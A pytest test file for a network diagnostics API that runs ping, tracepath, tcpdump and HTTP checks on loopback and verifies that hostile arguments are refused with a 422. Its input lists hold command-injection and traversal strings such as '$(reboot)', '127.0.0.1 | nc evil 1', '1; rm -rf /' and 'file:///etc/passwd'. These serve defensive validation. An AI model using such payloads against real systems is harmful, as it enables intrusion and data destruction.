"""System → Diagnostics: the real tools (ping, tracepath, tcpdump) on this host's loopback, real
sockets and HTTP servers, and every kind of hostile argument refused with a 422 naming it."""

from __future__ import annotations

import contextlib
import http.server
import socket
import struct
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from apitest import login_as
from lab.serving import serving

PCAP_MAGIC = 0xA1B2C3D4


@pytest.fixture
def web_server() -> Iterator[tuple[str, int]]:
    """A plain HTTP server: / answers 200, /same redirects on itself, /away to another host."""

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if self.path == "/same":
                self.send_response(302)
                self.send_header("Location", "/")
            elif self.path == "/away":
                self.send_response(301)
                self.send_header("Location", "http://elsewhere.example/")
            else:
                self.send_response(200)
            body = b"hello"
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        yield server.server_address[0], server.server_address[1]


def test_ping_runs_the_real_tool_with_the_host_after_the_options(
    client: TestClient,
) -> None:
    response = client.post("/api/v1/diagnostics/ping", json={"host": "127.0.0.1", "count": 2})
    assert response.status_code == 200, response.text
    run = response.json()
    assert run["command"] == [
        "ping",
        "-n",
        "-c",
        "2",
        "-W",
        "2",
        "-w",
        "5",
        "--",
        "127.0.0.1",
    ]
    assert run["exit_code"] == 0 and not run["timed_out"]
    assert "2 packets transmitted, 2 received" in run["output"]


def test_traceroute_to_loopback(client: TestClient) -> None:
    response = client.post("/api/v1/diagnostics/traceroute", json={"host": "127.0.0.1", "max_hops": 3})
    assert response.status_code == 200, response.text
    run = response.json()
    assert run["command"] == ["tracepath", "-n", "-m", "3", "--", "127.0.0.1"]
    assert run["exit_code"] == 0 and "127.0.0.1" in run["output"]


def test_tcp_connect_times_a_listening_port_and_reports_a_closed_one(
    client: TestClient,
) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        opened = client.post(
            "/api/v1/diagnostics/tcp-connect", json={"host": "localhost", "port": port}
        ).json()
    assert opened["connected"] is True and opened["address"] == "127.0.0.1"
    assert opened["connect_ms"] >= 0 and opened["resolve_ms"] >= 0 and opened["error"] is None
    closed = client.post("/api/v1/diagnostics/tcp-connect", json={"host": "127.0.0.1", "port": port}).json()
    assert closed["connected"] is False and closed["error"] == "Connection refused"


def test_http_get_with_timings_and_redirects_on_the_same_host_only(
    client: TestClient, web_server: tuple[str, int]
) -> None:
    host, port = web_server
    plain = client.post("/api/v1/diagnostics/http-get", json={"url": f"http://{host}:{port}/"}).json()
    assert plain["status"] == 200 and plain["body_bytes"] == 5 and plain["http_version"] == "HTTP/1.1"
    assert 0 <= plain["connect_ms"] <= plain["first_byte_ms"] <= plain["total_ms"]
    same = client.post("/api/v1/diagnostics/http-get", json={"url": f"http://{host}:{port}/same"}).json()
    assert same["status"] == 200 and same["redirects"] == [f"http://{host}:{port}/"]
    away = client.post("/api/v1/diagnostics/http-get", json={"url": f"http://{host}:{port}/away"}).json()
    assert away["status"] == 301 and away["redirects"] == []
    assert away["redirect_not_followed"] == "http://elsewhere.example/"
    refused = client.post("/api/v1/diagnostics/http-get", json={"url": "http://127.0.0.1:1/"}).json()
    assert refused["status"] is None and refused["error"].startswith("ConnectError")


@contextlib.contextmanager
def pinging_loopback() -> Iterator[None]:
    """ICMP on lo until the block ends: a capture started at any moment inside it sees some."""
    done = threading.Event()

    def ping() -> None:
        while not done.is_set():
            subprocess.run(["ping", "-n", "-c", "1", "127.0.0.1"], capture_output=True, check=False)
            done.wait(0.2)

    pinger = threading.Thread(target=ping)
    pinger.start()
    try:
        yield
    finally:
        done.set()
        pinger.join()


def test_capture_on_loopback_downloads_a_pcap(client: TestClient) -> None:
    with pinging_loopback():
        response = client.post(
            "/api/v1/diagnostics/capture",
            json={"interface": "lo", "count": 2, "seconds": 20, "filter": "icmp"},
        )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.tcpdump.pcap"
    assert response.headers["content-disposition"].startswith('attachment; filename="fulcrum-lo-')
    magic, _major, _minor = struct.unpack("<IHH", response.content[:8])
    assert magic == PCAP_MAGIC
    assert len(response.content) > 24 + 2 * 16  # the header and two packet records


def test_capture_stops_at_its_time_limit(client: TestClient) -> None:
    response = client.post(
        "/api/v1/diagnostics/capture",
        json={"interface": "lo", "count": 5, "seconds": 1, "filter": "udp port 9"},
    )
    assert response.status_code == 200, response.text
    assert len(response.content) == 24  # the pcap header: nothing matched


def test_a_filter_tcpdump_cannot_compile_is_a_422_on_the_filter(
    client: TestClient,
) -> None:
    response = client.post("/api/v1/diagnostics/capture", json={"interface": "lo", "filter": "port banana"})
    assert response.status_code == 422, response.text
    assert response.json()["detail"][0]["loc"] == ["body", "filter"]
    assert "banana" in response.json()["detail"][0]["msg"]


def test_interfaces_are_the_kernels(client: TestClient) -> None:
    names = client.get("/api/v1/diagnostics/interfaces").json()["names"]
    assert "lo" in names and names == sorted(p.name for p in Path("/sys/class/net").iterdir())


def test_neighbour_table_is_read(client: TestClient) -> None:
    expected = subprocess.run(["ip", "-json", "neigh", "show"], capture_output=True, check=True).stdout
    response = client.get("/api/v1/diagnostics/neighbours")
    assert response.status_code == 200
    rows = response.json()["data"]
    assert {row["address"] for row in rows} >= {
        row["dst"] for row in __import__("json").loads(expected or b"[]")
    }


CONN_TABLE = """\
Pro FromIP   FPrt ToIP     TPrt DestIP   DPrt State       Expires PEName PEData
TCP 0A4D000A 9C40 0A4D0064 0050 0A4D0115 0050 ESTABLISHED     899
TCP 0A4D000A 9C41 0A4D0064 0050 0A4D0116 0050 TIME_WAIT        60
TCP 0A4D000B 9C42 0A4D0064 0050 0A4D0115 0050 ESTABLISHED     890
UDP 0A4D000B 3039 0A4D0064 0035 0A4D0117 0035 UDP             120
TCP 2001:0db8:0000:0000:0000:0000:0000:000a 9C43 2001:0db8:0000:0000:0000:0000:0000:0064 01BB \
2001:0db8:0001:0000:0000:0000:0000:0015 01BB ESTABLISHED     899
"""


@pytest.fixture
def conn_table(client: TestClient, tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "ip_vs_conn"
    path.write_text(CONN_TABLE.replace("\\\n", ""))
    settings = client.app.state.settings
    client.app.state.settings = settings.model_copy(update={"ipvs_conn_file": path})
    yield path
    client.app.state.settings = settings


def test_connection_table_filters_pages_and_counts(client: TestClient, conn_table: Path) -> None:
    everything = client.get("/api/v1/diagnostics/connections").json()
    assert everything["available"] and everything["total"] == 5 and everything["count"] == 5
    assert everything["states"] == {"ESTABLISHED": 3, "TIME_WAIT": 1, "UDP": 1}
    assert everything["data"][0] == {
        "protocol": "TCP", "client": "10.77.0.10", "client_port": 40000, "virtual": "10.77.0.100",
        "virtual_port": 80, "backend": "10.77.1.21", "backend_port": 80, "state": "ESTABLISHED",
        "expires_seconds": 899,
    }  # fmt: skip
    assert everything["data"][4]["client"] == "2001:db8::a" and everything["data"][4]["virtual_port"] == 443

    def clients(**params: Any) -> list[tuple[str, int]]:
        page = client.get("/api/v1/diagnostics/connections", params=params).json()
        return [(row["client"], row["client_port"]) for row in page["data"]]

    assert clients(backend="10.77.1.21:80") == [
        ("10.77.0.10", 40000),
        ("10.77.0.11", 40002),
    ]
    assert clients(service="10.77.0.100:53") == [("10.77.0.11", 12345)]
    assert clients(service="10.77.0.100") == clients()[:4]
    assert clients(service="[2001:db8::64]:443") == [("2001:db8::a", 40003)]
    assert clients(client="10.77.0.11", state="ESTABLISHED") == [("10.77.0.11", 40002)]
    assert clients(limit=2, offset=1) == [("10.77.0.10", 40001), ("10.77.0.11", 40002)]
    page = client.get(
        "/api/v1/diagnostics/connections",
        params={"service": "10.77.0.100:80", "limit": 1},
    ).json()
    assert (
        page["count"] == 3 and page["states"] == {"ESTABLISHED": 2, "TIME_WAIT": 1} and len(page["data"]) == 1
    )


def test_no_connection_table_without_ipvs(client: TestClient, tmp_path: Path) -> None:
    settings = client.app.state.settings
    client.app.state.settings = settings.model_copy(update={"ipvs_conn_file": tmp_path / "missing"})
    try:
        page = client.get("/api/v1/diagnostics/connections").json()
    finally:
        client.app.state.settings = settings
    assert page["available"] is False and "no IPVS connection table" in page["reason"]


HOSTILE_HOSTS = [
    "-f", "--flood", "-c 1000 127.0.0.1", "127.0.0.1; reboot", "127.0.0.1 | nc evil 1", "$(reboot)",
    "`id`", "127.0.0.1\nreboot", "127.0.0.1 -f", "a b", "", "x" * 254, "-", "host_name.example",
    "../etc/passwd", "example.com&", "\x00", "exa$mple.com", "-1.2.3.4",
]  # fmt: skip
HOSTILE_URLS = [
    "file:///etc/passwd", "ftp://example.com/", "http://-f/", "http://a b/", "http://user:pw@example.com/",
    "http://example.com/\nHost: evil", "http://example.com:99999/", "http://example.com:abc/", "http:///x",
    "gopher://example.com/", "http://$(reboot)/", "http://`id`.example.com/", "-http://example.com/",
    "http://" + "a" * 2048 + ".com/",
]  # fmt: skip
HOSTILE_FILTERS = [
    "-w /tmp/x", "--help", "port 80; reboot", "port 80 | nc evil 1", "$(reboot)", "`id`", "port 80\nhost x",
    "port 80 && port 81", "host 'x'", 'host "x"', "port \\80", "x" * 257, "port 80\x00",
]  # fmt: skip


def _cases() -> Iterator[Any]:
    for host in HOSTILE_HOSTS:
        yield "ping", {"host": host}, "host"
        yield "traceroute", {"host": host}, "host"
        yield "tcp-connect", {"host": host, "port": 80}, "host"
    for url in HOSTILE_URLS:
        yield "http-get", {"url": url}, "url"
    for value in (0, 11, -1, "1; rm -rf /", 1.5, "4 -f"):
        yield "ping", {"host": "127.0.0.1", "count": value}, "count"
    for value in (0, 31, 1000, "-m 1"):
        yield "traceroute", {"host": "127.0.0.1", "max_hops": value}, "max_hops"
    for value in (0, 65536, -80, "80; id"):
        yield "tcp-connect", {"host": "127.0.0.1", "port": value}, "port"
    for value in (0, -1, 11, 1e9):
        yield (
            "tcp-connect",
            {"host": "127.0.0.1", "port": 80, "timeout_seconds": value},
            "timeout_seconds",
        )
    for value in (0, 31):
        yield (
            "http-get",
            {"url": "http://127.0.0.1/", "timeout_seconds": value},
            "timeout_seconds",
        )
    yield (
        "http-get",
        {"url": "http://127.0.0.1/", "verify_tls": "--insecure"},
        "verify_tls",
    )
    for name in (
        "-i",
        "--list-interfaces",
        "lo;id",
        "lo lo",
        "lo\n",
        "$(id)",
        "a" * 16,
        "nosuch0",
        "",
        "../lo",
    ):
        yield "capture", {"interface": name}, "interface"
    for value in (0, 1001, -5, "10 -w /tmp/x"):
        yield "capture", {"interface": "lo", "count": value}, "count"
    for value in (0, 61, 3600):
        yield "capture", {"interface": "lo", "seconds": value}, "seconds"
    for value in HOSTILE_FILTERS:
        yield "capture", {"interface": "lo", "filter": value}, "filter"
    for tool, body in (
        ("ping", {"host": "127.0.0.1"}),
        ("capture", {"interface": "lo"}),
    ):
        yield (
            tool,
            {**body, "args": "-f"},
            "args",
        )  # no field other than the declared ones


def test_hostile_arguments_get_422_naming_the_field(client: TestClient) -> None:
    """Every case in one test (one app): each answered 422 naming exactly the field, nothing run."""
    wrong = []
    for tool, body, field in _cases():
        response = client.post(f"/api/v1/diagnostics/{tool}", json=body)
        locations = (
            [problem["loc"] for problem in response.json()["detail"]] if response.status_code == 422 else None
        )
        if locations != [["body", field]]:
            wrong.append((tool, body, response.status_code, response.text[:300]))
    assert wrong == []


HOSTILE_TABLE_FILTERS = [
    ({"service": "10.0.0.1:99999"}, "service"),
    ({"service": "-f"}, "service"),
    ({"backend": "10.0.0.1;id"}, "backend"),
    ({"backend": "[::1]x"}, "backend"),
    ({"client": "$(reboot)"}, "client"),
    ({"state": "established; id"}, "state"),
    ({"limit": 0}, "limit"),
    ({"limit": 1001}, "limit"),
    ({"offset": -1}, "offset"),
]


def test_hostile_table_filters_get_422(client: TestClient, conn_table: Path) -> None:
    for params, field in HOSTILE_TABLE_FILTERS:
        response = client.get("/api/v1/diagnostics/connections", params=params)
        assert response.status_code == 422, (params, response.text)
        assert [problem["loc"] for problem in response.json()["detail"]] == [["query", field]], params


def test_viewers_are_refused_every_diagnostic(client: TestClient) -> None:
    viewer = login_as(client, "vic", "viewer")
    for method, path, body in [
        ("POST", "ping", {"host": "127.0.0.1", "count": 1}),
        ("POST", "traceroute", {"host": "127.0.0.1"}),
        ("POST", "tcp-connect", {"host": "127.0.0.1", "port": 1}),
        ("POST", "http-get", {"url": "http://127.0.0.1:1/"}),
        ("POST", "capture", {"interface": "lo", "seconds": 1}),
        ("GET", "interfaces", None),
        ("GET", "connections", None),
        ("GET", "neighbours", None),
        ("GET", "support-bundle", None),
    ]:
        response = viewer.request(method, f"/api/v1/diagnostics/{path}", json=body)
        assert response.status_code == 403, (path, response.text)


def test_operators_may_run_the_tools(client: TestClient) -> None:
    operator = login_as(client, "otto", "operator")
    response = operator.post("/api/v1/diagnostics/ping", json={"host": "127.0.0.1", "count": 1})
    assert response.status_code == 200 and response.json()["exit_code"] == 0
